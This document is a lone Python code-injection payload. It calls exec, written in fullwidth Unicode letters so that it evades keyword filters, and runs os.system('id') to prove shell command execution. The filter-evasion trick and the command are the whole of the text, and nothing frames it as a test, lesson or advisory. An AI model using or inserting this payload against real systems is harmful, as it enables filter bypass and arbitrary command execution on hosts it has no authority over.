ｅｘｅｃ("import os\nos.system('id')")
